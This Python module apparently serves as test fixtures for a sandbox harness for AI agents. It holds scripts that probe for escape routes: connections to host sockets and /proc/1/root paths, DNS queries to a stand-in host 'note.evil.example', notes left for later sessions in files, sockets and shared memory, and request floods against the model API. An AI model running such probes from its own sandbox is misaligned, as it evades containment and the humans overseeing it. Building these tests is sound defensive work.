"""What hostile programs run to get out of a sandbox, or to one another. Python of the standard library only; each
finds what it is told in its first argument, as JSON, and prints what it got."""

from __future__ import annotations

_CALLING = r"""
import json, os, socket, sys
told = json.loads(sys.argv[1])
def stream(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(address)
        return s.recv(100).decode()
def datagram(family, address, data=b"x"):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.connect(address)  # so that a refusal is heard
        s.send(data)
        return s.recv(100).decode()
def attempt(call, *words):
    try: print(call(*words))
    except (OSError, UnicodeError) as error: print(type(error).__name__)
V4, V6, UNIX = socket.AF_INET, socket.AF_INET6, socket.AF_UNIX
"""

TCP = (
    _CALLING
    + r"""
for host in ("127.0.0.1", "127.1.2.3", "0.0.0.0", "localhost"): attempt(stream, V4, (host, told["port"]))
"""
)
TCP6 = (
    _CALLING
    + r"""
for host in ("::1", "::ffff:127.0.0.1", "::"): attempt(stream, V6, (host, told["port"]))
"""
)
UDP = (
    _CALLING
    + r"""
attempt(datagram, V4, ("127.0.0.1", told["port"]))
attempt(datagram, V6, ("::ffff:127.0.0.1", told["port"]))
"""
)
ABSTRACT = _CALLING + 'attempt(stream, UNIX, "\\0" + told["abstract"])\n'
PATH = (
    _CALLING
    + r"""
for root in ("", "/proc/1/root", "/proc/self/root", "/host"): attempt(stream, UNIX, root + told["path"])
"""
)
DNS = (
    _CALLING
    + r"""
import struct
labels = b"".join(bytes([len(part)]) + part for part in (b"note", b"evil", b"example"))
query = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + bytes([0, 0, 1, 0, 1])
servers = ["127.0.0.1", "127.0.0.11"]
try: servers += [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
except OSError: pass
for server in servers:
    for port in (53, told["port"]): attempt(datagram, V6 if ":" in server else V4, (server, port), query)
attempt(lambda: socket.getaddrinfo("note.evil.example", 443))
"""
)
"""A query to the resolver of the host, which listens on a port of its own, and to every one that is named anywhere."""

SERVE_BESIDE = r"""
import json, os, socket, sys, threading, time
told = json.loads(sys.argv[1])
def serve(s, datagrams=False):
    while True:
        if datagrams: s.sendto(told["word"].encode(), s.recvfrom(2048)[1])
        else:
            peer, _ = s.accept()
            peer.sendall(told["word"].encode())
            peer.close()
os.makedirs("/tmp/beside", exist_ok=True)
told["path"] = "/tmp/beside/s"
sys.argv[1] = json.dumps(told)
places = [(socket.AF_UNIX, told["path"], False), (socket.AF_UNIX, "\0" + told["abstract"], False)]
places += [(socket.AF_INET, ("127.0.0.1", told["port"]), kind) for kind in (False, True)]
places += [(socket.AF_INET6, ("::1", told["port"]), False)]
for family, address, datagrams in places:
    try:
        s = socket.socket(family, socket.SOCK_DGRAM if datagrams else socket.SOCK_STREAM)
        s.bind(address)
        if not datagrams: s.listen()
        threading.Thread(target=serve, args=(s, datagrams), daemon=True).start()
    except OSError: pass
"""
"""The same servers where the program is."""

LEAVE_FILES = r"""
import json, os, sys, time
told = json.loads(sys.argv[1])
note = told["note"]
for place in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), ".", "/dev/mqueue"):
    try:
        with open(os.path.join(place, "for-the-next"), "w") as file: file.write(note)
    except OSError: pass
print("left", flush=True)
time.sleep(told["stay"])
"""
FIND_FILES = r"""
import os
for place in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), ".", "/dev/mqueue"):
    try:
        with open(os.path.join(place, "for-the-next")) as file: print(file.read())
    except OSError: pass
"""
LEAVE_SOCKETS = r"""
import json, os, socket, sys, threading, time
note = json.loads(sys.argv[1])["note"].encode()
def serve(s):
    while True:
        peer, _ = s.accept()
        peer.sendall(note)
        peer.close()
PLACES = [(socket.AF_INET, ("127.0.0.1", 7777)), (socket.AF_UNIX, "\0for-the-next"), (socket.AF_UNIX, "/tmp/s")]
for family, address in PLACES:
    try:
        s = socket.socket(family)
        s.bind(address)
        s.listen()
        threading.Thread(target=serve, args=(s,), daemon=True).start()
    except OSError: pass
print("left", flush=True)
time.sleep(30)
"""
FIND_SOCKETS = r"""
import socket
PLACES = [(socket.AF_INET, ("127.0.0.1", 7777)), (socket.AF_UNIX, "\0for-the-next"), (socket.AF_UNIX, "/tmp/s")]
for family, address in PLACES:
    try:
        with socket.socket(family) as s:
            s.settimeout(2)
            s.connect(address)
            print(s.recv(100).decode())
    except OSError: pass
"""
_MEMORY = r"""
import ctypes, json, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
KEY = 0x5B5B
"""
LEAVE_MEMORY = (
    _MEMORY
    + r"""
note = json.loads(sys.argv[1])["note"].encode()
number = libc.shmget(KEY, 4096, 0o1666)
if number >= 0:
    place = libc.shmat(number, None, 0)
    if place not in (None, ctypes.c_void_p(-1).value): ctypes.memmove(place, note, len(note))
queue = libc.msgget(KEY, 0o1666)
if queue >= 0:
    libc.msgsnd(queue, ctypes.create_string_buffer((1).to_bytes(8, "little") + note), len(note), 0o4000)
print("left", flush=True)
time.sleep(30)
"""
)
FIND_MEMORY = (
    _MEMORY
    + r"""
number = libc.shmget(KEY, 4096, 0o666)
if number >= 0:
    place = libc.shmat(number, None, 0)
    if place not in (None, ctypes.c_void_p(-1).value): print(ctypes.string_at(place, 64).rstrip(b"\0").decode())
queue = libc.msgget(KEY, 0o666)
if queue >= 0:
    got = ctypes.create_string_buffer(200)
    if libc.msgrcv(queue, got, 190, 0, 0o4000) > 0: print(got.raw[8:].rstrip(b"\0").decode())
"""
)
"""Shared memory and message queues under a key that both know."""

ASK_THE_MODEL = r"""
import json, os, urllib.request
base, key = os.environ["OPENAI_BASE_URL"], os.environ["OPENAI_API_KEY"]
body = {"model": "scripted-1", "messages": [{"role": "user", "content": "Who are you?"}]}
heads = {"Authorization": "Bearer " + key, "Content-Type": "application/json"}
request = urllib.request.Request(base + "/chat/completions", json.dumps(body).encode(), heads)
print(json.load(urllib.request.urlopen(request, timeout=20))["choices"][0]["message"]["content"])
"""
"""What an honest agent does with what it was given."""

TIRE_THE_MODEL = r"""
import json, os, urllib.error, urllib.request
base, key = os.environ["OPENAI_BASE_URL"], os.environ["OPENAI_API_KEY"]
heads = {"Authorization": "Bearer " + key, "Content-Type": "application/json"}
for number in range(TIMES):
    body = {"model": "scripted-1", "messages": [{"role": "user", "content": str(number)}], "max_tokens": -1}
    request = urllib.request.Request(base + "/chat/completions", json.dumps(body).encode(), heads)
    try: print(urllib.request.urlopen(request, timeout=20).status)
    except urllib.error.URLError as error: print(error)
"""
"""Asks for what it will be refused until the provider has had enough."""
